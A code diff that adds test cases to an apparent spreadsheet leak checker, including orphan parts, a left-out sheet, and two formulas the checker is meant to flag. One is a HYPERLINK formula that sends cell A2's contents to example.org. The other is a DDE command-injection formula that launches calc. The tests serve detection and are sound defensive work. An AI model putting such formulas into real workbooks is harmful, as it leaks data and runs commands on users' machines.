@@ -108,6 +108,10 @@ def _formula(book: Workbook, made: Made) -> None:
     book["Marks"]["F4"] = f'=IF(FALSE,"{made.other}","")'
 
 
+def _out(formula: str) -> Change:
+    return lambda book, _made: setattr(book["Marks"]["F4"], "value", formula)
+
+
 def _link(book: Workbook, made: Made) -> None:
     cell = book["Marks"]["F4"]
     cell.value = "see"
@@ -183,6 +187,15 @@ SHEETS: dict[str, tuple[Leak, str]] = {
     "custom XML of a spreadsheet": (_part("customXml/item1.xml", "<p>NAME</p>"), "It names"),
     "own property of a spreadsheet": (_part("docProps/custom.xml", "<p>NAME</p>"), "It "),
     "threaded comment": (_part("xl/threadedComments/threadedComment1.xml", "<c>NAME</c>"), "It "),
+    "text that nothing refers to": (
+        _part("xl/other/notes.txt", "about NAME", "text/plain"), "No sheet"
+    ),
+    "part that nothing refers to": (_part("xl/other/a.xml", "<p>Zed Nix</p>"), "xl/other/a.xml"),
+    "sheet that the book leaves out": (
+        _part("xl/worksheets/sheet9.xml", "<p>Zed Nix</p>", target="worksheet"), "sheet9.xml"
+    ),
+    "link in a formula": (_changed(_out('=HYPERLINK("http://example.org/?"&A2,"x")')), "leads out"),
+    "program in a formula": (_changed(_out("=cmd|'/c calc'!A0")), "leads out"),
     "words of a drawing": (_part("xl/drawings/drawing9.xml", "<t>NAME</t>"), "It names"),
     "values of a chart": (_part("xl/charts/chart9.xml", "<v>NAME</v>"), "It names"),
     "words that no cell has": (_part("xl/sharedStrings.xml", _STRINGS), "It"),
